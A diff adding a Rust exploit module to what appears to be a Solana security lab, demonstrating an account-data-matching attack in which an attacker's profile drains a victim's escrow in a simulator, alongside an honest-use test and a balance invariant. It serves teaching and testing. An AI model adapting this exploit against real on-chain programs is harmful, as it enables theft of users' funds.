@@ -0,0 +1,168 @@
+//! The attacker's own profile unlocks someone else's escrow, paid out to
+//! the attacker
+
+use anyhow::{ensure, Result as AnyResult};
+use borsh::{to_vec, BorshDeserialize};
+use lab_domain::{EscrowAccount, UserProfile};
+use lab_instructions::account_data_matching::release_ix;
+use lab_svm::{Svm, LAMPORTS_PER_SOL};
+use solana_program::entrypoint::ProcessInstruction;
+use solana_program::pubkey::Pubkey;
+
+use super::{deploy, fund, program_account};
+use crate::ctf::{self, Goal};
+use crate::invariants::{owned, spendable, Invariant};
+use crate::{attacker, fixtures, victim, vulnerability, Harness, Version};
+
+/// the attacker's profile is paired with the victim's released escrow and
+/// beneficiary
+#[vulnerability(
+    id = "SOL-008",
+    category = "AccountDataMatching",
+    severity = "High",
+    difficulty = "Intermediate",
+    rejection = "Validation(KeyMismatch)",
+    prerequisite = "missing_owner_check",
+    honest_use = honest_use,
+    reference(
+        title = "Sealevel Attacks: account data matching",
+        url = "https://github.com/coral-xyz/sealevel-attacks/tree/master/programs/1-account-data-matching",
+    )
+)]
+fn exploit(harness: &mut Harness) -> AnyResult<()> {
+    match harness.version() {
+        Version::Vulnerable => attack(harness, account_data_matching::process_instruction),
+        Version::Secure => attack(harness, account_data_matching_secure::process_instruction),
+    }
+}
+
+const ESCROWED: u64 = 2 * LAMPORTS_PER_SOL;
+/// Long before the runtime's clock, so the escrow has been released
+const RELEASED_AT: i64 = 999_000;
+
+fn attack(svm: &mut Svm, program: ProcessInstruction) -> AnyResult<()> {
+    let program_id = deploy(svm, "account_data_matching", program);
+    let victim_key = fund(svm, &victim());
+    let attacker_key = fund(svm, &attacker());
+
+    let escrow = |svm: &mut Svm, label: &str, beneficiary: Pubkey, amount: u64| {
+        let data = EscrowAccount::new(beneficiary, amount, RELEASED_AT);
+        Ok::<_, std::io::Error>(program_account(
+            svm,
+            fixtures::address(label),
+            &program_id,
+            to_vec(&data)?,
+            amount,
+        ))
+    };
+    let victim_escrow = escrow(
+        svm,
+        "account_data_matching/victim_escrow",
+        victim_key,
+        ESCROWED,
+    )?;
+    let attacker_escrow = escrow(
+        svm,
+        "account_data_matching/attacker_escrow",
+        attacker_key,
+        0,
+    )?;
+    let profile = UserProfile::new(attacker_key, attacker_escrow, 0);
+    let attacker_profile = program_account(
+        svm,
+        fixtures::address("account_data_matching/attacker_profile"),
+        &program_id,
+        to_vec(&profile)?,
+        0,
+    );
+
+    let flag = ctf::plant(
+        svm,
+        program_id,
+        Goal::Drain {
+            account: victim_escrow,
+            amount: ESCROWED,
+        },
+    )?;
+
+    let before = svm.lamports(&attacker_key);
+    // Neither the escrow nor the beneficiary matches the profile
+    svm.send(
+        &[release_ix(
+            program_id,
+            attacker_profile,
+            victim_escrow,
+            attacker_key,
+            attacker_key,
+        )],
+        &[&attacker()],
+    )?;
+
+    let gained = svm.lamports(&attacker_key) - before;
+    ensure!(gained >= ESCROWED, "attacker gained only {gained}");
+    ctf::capture(svm, &flag)
+}
+
+/// The beneficiary releases their own escrow, through their own profile
+fn honest_use(harness: &mut Harness) -> AnyResult<()> {
+    let program = match harness.version() {
+        Version::Vulnerable => account_data_matching::process_instruction,
+        Version::Secure => account_data_matching_secure::process_instruction,
+    };
+    let program_id = deploy(harness, "account_data_matching", program);
+    let victim_key = fund(harness, &victim());
+    let escrow = EscrowAccount::new(victim_key, ESCROWED, RELEASED_AT);
+    let escrow = program_account(
+        harness,
+        fixtures::address("account_data_matching/escrow"),
+        &program_id,
+        to_vec(&escrow)?,
+        ESCROWED,
+    );
+    let profile = UserProfile::new(victim_key, escrow, ESCROWED);
+    let profile = program_account(
+        harness,
+        fixtures::address("account_data_matching/profile"),
+        &program_id,
+        to_vec(&profile)?,
+        0,
+    );
+
+    harness.send(
+        &[release_ix(
+            program_id, profile, escrow, victim_key, victim_key,
+        )],
+        &[&victim()],
+    )?;
+    Ok(())
+}
+
+/// What the example's accounts must add up to
+pub(crate) static INVARIANTS: &[&dyn Invariant] = &[&Escrowed];
+
+/// Every escrow holds, beyond its rent, what it owes its beneficiary
+struct Escrowed;
+
+impl Invariant for Escrowed {
+    fn name(&self) -> &'static str {
+        "escrow lamports >= escrow_data.amount"
+    }
+
+    fn check(&self, svm: &Svm, program_id: &Pubkey) -> Result<(), String> {
+        for (address, account) in owned(svm, program_id) {
+            if account.data.len() != EscrowAccount::LEN {
+                continue;
+            }
+            let escrow = EscrowAccount::deserialize(&mut account.data.as_slice())
+                .map_err(|e| e.to_string())?;
+            let held = spendable(svm, account);
+            if held < escrow.amount {
+                return Err(format!(
+                    "escrow {address} owes {} but holds {held} beyond rent",
+                    escrow.amount
+                ));
+            }
+        }
+        Ok(())
+    }
+}